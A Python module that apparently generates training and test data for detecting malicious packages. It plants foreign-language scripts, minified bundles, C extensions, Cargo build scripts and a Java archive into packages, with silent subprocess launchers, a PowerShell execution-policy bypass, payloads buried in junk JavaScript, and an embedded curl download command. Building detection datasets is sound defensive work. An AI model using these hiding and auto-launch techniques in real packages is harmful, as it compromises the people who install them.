"""Payloads in other languages: JavaScript, shell, PowerShell, C, Rust, Lua, Perl, Ruby, Java."""

import zipfile
from io import BytesIO

from jobs.corpus.payloads.blocks import blocks_of, choose_block
from jobs.corpus.payloads.contract import Family
from jobs.corpus.payloads.draft import Draft
from jobs.corpus.payloads.source_places import as_function

_BOILER = "export", "function", "return", "const", "module", "Object", "prototype", "value", "length", "index"


def _text(draft: Draft, kind: str) -> str:
    block = choose_block("foreign", draft.words.split, draft.rng, kind)
    draft.act = block.name
    return draft.words.render(block.text)


def _start(draft: Draft, path: str, arguments: str) -> None:
    """Start a new file of the package from code; `arguments` are a list's items, `@path@` the file."""
    target = draft.somewhere()
    depth = target.removeprefix(draft.folder).count("/")
    parts = ", ".join(repr(part) for part in ([".."] * depth + path.removeprefix(draft.folder).split("/")))
    here = f"os.path.join(os.path.dirname(__file__), {parts})"
    call = draft.rng.choice((
        f"subprocess.Popen([{arguments}], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)",
        f"subprocess.run([{arguments}], check=False)",
        f"subprocess.call([{arguments}])",
    )).replace("@path@", here)  # fmt: skip
    name = draft.words.name()
    draft.insert(target, f"import os\nimport subprocess\n\n\n{as_function(call, name, draft.rng)}\n\n{name}()\n")


def _script(draft: Draft, kind: str, names: tuple[str, ...], arguments: str) -> None:
    folder = draft.rng.choice(("", "scripts/", "_bin/", "resources/", "runtime/"))
    path = f"{draft.folder}{folder}{draft.rng.choice(names)}"
    draft.put_new(path, _text(draft, kind))
    _start(draft, path, arguments)


def shell_script(draft: Draft) -> None:
    """Bring a shell script and start it."""
    _script(
        draft,
        "shell",
        ("setup.sh", "postinstall.sh", "env.sh", "check.sh"),
        draft.rng.choice(("'sh', @path@", "'/bin/bash', @path@")),
    )


def powershell_script(draft: Draft) -> None:
    """Bring a PowerShell script and start it."""
    _script(
        draft,
        "powershell",
        ("init.ps1", "update.ps1", "env.ps1"),
        "'powershell', '-ExecutionPolicy', 'Bypass', '-File', @path@",
    )


def windows_script(draft: Draft) -> None:
    """Bring a script of Windows and start it."""
    kind = blocks_of("foreign", draft.words.split, "windows")
    if not kind:
        raise draft.fail("no script of Windows belongs to its split")
    suffix = "bat" if kind[0].name == "batch" else "vbs"
    _script(
        draft,
        "windows",
        (f"run.{suffix}", f"helper.{suffix}"),
        "'cmd', '/c', @path@" if suffix == "bat" else "'wscript', @path@",
    )


def node_script(draft: Draft) -> None:
    """Bring a small script for Node and start it."""
    _script(draft, "javascript", ("index.js", "setup.js", "main.cjs", "worker.js"), "'node', @path@")


def node_bundle(draft: Draft) -> None:
    """Bring a large minified bundle with the payload inside and start it with another runtime."""
    rng = draft.rng
    parts = [
        f"var {rng.choice('abcdefgh')}{n}={rng.choice(_BOILER)!r}+{rng.randrange(10**6)};"
        for n in range(rng.randrange(3_000, 14_000))
    ]
    parts.insert(rng.randrange(len(parts)), " ".join(_text(draft, "javascript").split()))
    path = f"{draft.folder}{rng.choice(('_runtime', 'dist', 'vendor'))}/{rng.choice(('bundle.js', 'router.mjs', 'runtime.js'))}"
    draft.put_new(path, "".join(parts))
    _start(draft, path, rng.choice(("'bun', 'run', @path@", "'deno', 'run', '-A', @path@", "'npx', 'node', @path@")))


def web_script(draft: Draft) -> None:
    """Append to a script that the package serves to browsers, or bring one."""
    found = sorted(p for p in draft.files if p.endswith(".js") and 200 < len(draft.files[p]) < 500_000)
    text = _text(draft, "web")
    if found:
        path = draft.rng.choice(found)
        draft.put(path, draft.files[path].rstrip(b"\n") + b"\n" + text.encode())
        return
    draft.put_new(f"{draft.folder}static/{draft.rng.choice(('analytics.js', 'app.js', 'widget.js'))}", text)


def c_source(draft: Draft) -> None:
    """Put a function that the loader runs into a C source of an sdist, or bring such a source."""
    found = sorted(p for p in draft.files if p.endswith((".c", ".cpp", ".cc")) and len(draft.files[p]) < 400_000)
    text = _text(draft, "c")
    if found:
        path = draft.rng.choice(found)
        draft.put(path, draft.files[path].rstrip(b"\n") + b"\n\n" + text.encode())
        return
    draft.put_new(
        f"{draft.root}src/_speedups.c",
        f"#include <Python.h>\n{text}\nPyMODINIT_FUNC PyInit__speedups(void) {{ return 0; }}\n",
    )
    path = f"{draft.root}setup.py"
    before = draft.files.get(path, b"from setuptools import setup\n\nsetup()\n").decode("utf-8", "replace")
    if "setup(" not in before or "ext_modules" in before:
        raise draft.fail("has no call of setup that takes a module in C")
    line = "from setuptools import Extension\n"
    draft.put(
        path, line + before.replace("setup(", "setup(ext_modules=[Extension('_speedups', ['src/_speedups.c'])], ", 1)
    )


def rust_build(draft: Draft) -> None:
    """Bring a build script of Cargo."""
    path = f"{draft.root}build.rs"
    before = draft.files.get(path, b"")
    text = _text(draft, "rust")
    draft.put(path, text if not before else before.rstrip(b"\n") + b"\n\nmod extra {\n" + text.encode() + b"}\n")
    manifest = f"{draft.root}Cargo.toml"
    if manifest not in draft.files:
        draft.put_aside(manifest, '[package]\nname = "ext"\nversion = "0.1.0"\nbuild = "build.rs"\n')


def other_script(draft: Draft) -> None:
    """Bring a script in Lua, Perl or Ruby and start it."""
    block = choose_block("foreign", draft.words.split, draft.rng, "script")
    tool = {"popen": "lua", "perl-socket": "perl", "ruby-eval": "ruby"}[block.name]
    draft.act = block.name
    path = f"{draft.folder}scripts/{draft.words.word()}.{tool[:2] if tool != 'lua' else 'lua'}"
    draft.put_new(path, draft.words.render(block.text))
    _start(draft, path, f"'{tool}', @path@")


def java_archive(draft: Draft) -> None:
    """Bring a Java archive whose class starts a command."""
    strings = (
        "java/lang/Runtime",
        "getRuntime",
        "exec",
        draft.words.render("curl -s @url@ -o /tmp/@file@"),
        "main",
        "([Ljava/lang/String;)V",
    )
    pool = b"".join(b"\x01" + len(s).to_bytes(2, "big") + s.encode() for s in strings)
    java_class = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + (len(strings) + 1).to_bytes(2, "big") + pool
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(
            zipfile.ZipInfo("META-INF/MANIFEST.MF", (2020, 2, 2, 0, 0, 0)), "Manifest-Version: 1.0\nMain-Class: Main\n"
        )
        archive.writestr(zipfile.ZipInfo("Main.class", (2020, 2, 2, 0, 0, 0)), java_class)
    path = f"{draft.folder}jars/{draft.words.word()}.jar"
    draft.put_new(path, out.getvalue())
    _start(draft, path, "'java', '-jar', @path@")


FAMILIES = (
    Family("shell-script", "foreign", "train", shell_script, dress="plain", takes_trigger=False),
    Family("shell-script-held-out", "foreign", "test", shell_script, dress="plain", takes_trigger=False),
    Family("powershell-script", "foreign", "train", powershell_script, dress="plain", takes_trigger=False),
    Family("powershell-held-out", "foreign", "test", powershell_script, dress="plain", takes_trigger=False),
    Family("windows-script", "foreign", "train", windows_script, dress="plain", takes_trigger=False),
    Family("windows-script-held-out", "foreign", "valid", windows_script, dress="plain", takes_trigger=False),
    Family("node-script", "foreign", "train", node_script, dress="plain", takes_trigger=False),
    Family("node-bundle", "foreign", "test", node_bundle, dress="bundle", takes_trigger=False),
    Family("web-script", "foreign", "train", web_script, dress="plain", takes_trigger=False),
    Family("web-script-held-out", "foreign", "test", web_script, dress="plain", takes_trigger=False),
    Family("c-source", "foreign", "train", c_source, "sdist", "plain", takes_trigger=False),
    Family("c-source-held-out", "foreign", "test", c_source, "sdist", "plain", takes_trigger=False),
    Family("rust-build", "foreign", "test", rust_build, "sdist", "plain", takes_trigger=False),
    Family("script-of-another", "foreign", "valid", other_script, dress="plain", takes_trigger=False),
    Family("java-archive", "foreign", "test", java_archive, dress="plain", takes_trigger=False),
)
